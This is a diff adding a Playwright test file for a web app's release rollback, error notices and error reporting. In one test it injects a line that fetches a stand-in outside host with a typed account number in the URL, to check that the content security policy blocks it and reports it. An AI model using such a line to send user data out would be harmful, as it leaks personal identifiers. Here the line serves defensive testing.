@@ -1,0 +1,165 @@
+import type { Page } from 'playwright/test';
+import { releaseCopy } from '../set-up/release-copy.ts';
+import { expect, test } from '../set-up/test.ts';
+import { addCode, throwsAtSubmit } from './set-up/add-code.ts';
+import {
+  enterPayment,
+  expectDetail,
+  expectNoReloadNorTheft,
+  markDocument,
+} from './set-up/citizen.ts';
+import { expectedErrors } from './set-up/expected-errors.ts';
+import { reportsOf } from './set-up/reports.ts';
+
+/* A release starts and shows its page, and fails then: in a handler, a timer, a promise, at the policy. */
+
+test.use({ expectedErrors });
+
+const notice = (page: Page) => page.locator('[data-message="echec.texte"]');
+const retry = (page: Page) => page.getByRole('button', { name: 'Réessayer' });
+const search = (page: Page) => page.locator('form button').click();
+
+async function fillIn(page: Page): Promise<void> {
+  await page.locator('[name=numero]').fill('33333122111221');
+  await page.locator('[name=cle]').fill('29');
+}
+
+const release = (page: Page, name: string) => page.locator(`[data-boundary="${name}"]`);
+
+test('a form that throws says so, then the previous release does it, with what was typed', async ({
+  page,
+  fragileSite,
+}) => {
+  const { served, previous } = await releaseCopy(fragileSite.folder, 'lookup', throwsAtSubmit);
+  const { told, answers } = reportsOf(page);
+  await page.goto(`${fragileSite.origin}/tai`);
+  await markDocument(page);
+  await fillIn(page);
+  await search(page);
+  await expect(notice(page)).toBeVisible();
+  await expect(notice(page)).toBeFocused();
+  await expect(notice(page)).toHaveAttribute('role', 'alert');
+  await expect(notice(page)).toContainText('0811 10 10 10');
+  await expect(notice(page)).not.toContainText('aucun paiement');
+  await expect(notice(page)).toBeInViewport();
+
+  await retry(page).click();
+  await expect(notice(page)).toHaveCount(0);
+  await expect(page.locator('main:focus, main :focus')).toHaveCount(1);
+  await expect(page.locator('[name=numero]')).toHaveValue('3333-3122-1112-21');
+  await expect(release(page, 'lookup')).toHaveAttribute('data-release', served.release.build);
+  await search(page);
+  await retry(page).click();
+  await expect(release(page, 'lookup')).toHaveAttribute('data-release', previous.release.build);
+  await expect(page.locator('[name=cle]')).toHaveValue('29');
+  await search(page);
+  await expectDetail(page);
+  await expectNoReloadNorTheft(page);
+  const { name: part, build } = served.release;
+  expect(told).toEqual([{ part, build, kind: 'handler', reason: 'on purpose, …' }]);
+  expect(answers).toEqual([204]);
+});
+
+test('the message speaks the language of the page, and goes with the page', async ({
+  page,
+  fragileSite,
+}) => {
+  await releaseCopy(fragileSite.folder, 'lookup', throwsAtSubmit);
+  await page.goto(`${fragileSite.origin}/tai?langue=de`);
+  await fillIn(page);
+  await search(page);
+  await expect(notice(page)).toContainText('Das hat nicht funktioniert.');
+  await page.getByRole('link', { name: /^NL/ }).click();
+  await expect(notice(page)).toContainText('Dat is niet gelukt.');
+  await page.getByRole('contentinfo').getByRole('link', { name: 'Hulp' }).click();
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Hulp');
+  await expect(notice(page)).toHaveCount(0);
+});
+
+for (const [how, come] of Object.entries({
+  'a navigation': async (page: Page) => {
+    await page.getByRole('contentinfo').getByRole('link', { name: 'Aide' }).click();
+    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Aide');
+    await page.goBack();
+  },
+  'a reload': async (page: Page) => {
+    await page.reload();
+  },
+})) {
+  test(`after ${how}, a release that failed twice is replaced by the previous one`, async ({
+    page,
+    fragileSite,
+  }) => {
+    const { served, previous } = await releaseCopy(fragileSite.folder, 'lookup', throwsAtSubmit);
+    await page.goto(`${fragileSite.origin}/tai`);
+    await fillIn(page);
+    for (const _ of ['once', 'twice']) {
+      await search(page);
+      await expect(notice(page)).toBeVisible();
+      await page.waitForTimeout(100);
+    }
+    await expect(release(page, 'lookup')).toHaveAttribute('data-release', served.release.build);
+    await come(page);
+    await expect(release(page, 'lookup')).toHaveAttribute('data-release', previous.release.build);
+    await fillIn(page);
+    await search(page);
+    await expectDetail(page);
+  });
+}
+
+test('a timer and a promise that fail are reported as of their release, and interrupt nobody', async ({
+  page,
+  fragileSite,
+}) => {
+  const { served } = await releaseCopy(
+    fragileSite.folder,
+    'payment',
+    addCode(`
+      setTimeout(() => { throw Error('on purpose, later'); }, 200);
+      for (const reason of ['first', 'second']) Promise.reject(Error('on purpose, ' + reason));`),
+  );
+  const { told, answers } = reportsOf(page);
+  await enterPayment(page, fragileSite.origin);
+  await expectDetail(page);
+  const { name: part, build } = served.release;
+  await expect.poll(() => told).toHaveLength(2);
+  expect(told).toEqual([
+    { part, build, kind: 'promise', reason: 'on purpose, first' },
+    { part, build, kind: 'script', reason: 'on purpose, later' },
+  ]);
+  await expect(notice(page)).toHaveCount(0);
+  await page.reload();
+  await expectDetail(page);
+  await page.waitForTimeout(500);
+  expect([told.length, answers]).toEqual([2, [204, 204]]);
+});
+
+test('what the policy refuses a release is reported once, without what was to be given away', async ({
+  page,
+  fragileSite,
+}) => {
+  const { served } = await releaseCopy(
+    fragileSite.folder,
+    'payment',
+    addCode(`for (const n of [1, 2, 3])
+      fetch('https://elsewhere.example/33333122111221?n=' + n).catch(() => {});`),
+  );
+  const { told } = reportsOf(page);
+  await enterPayment(page, fragileSite.origin);
+  await expectDetail(page);
+  const { name: part, build } = served.release;
+  await expect.poll(() => told).toHaveLength(1);
+  expect(told).toEqual([
+    { part, build, kind: 'policy', reason: 'connect-src https://elsewhere.example' },
+  ]);
+});
+
+test('nothing of this is loaded where nothing fails', async ({ page }) => {
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  await page.goto('/tai');
+  await fillIn(page);
+  await search(page);
+  await expectDetail(page);
+  expect(asked.filter((address) => address.includes('/watch.'))).toEqual([]);
+});
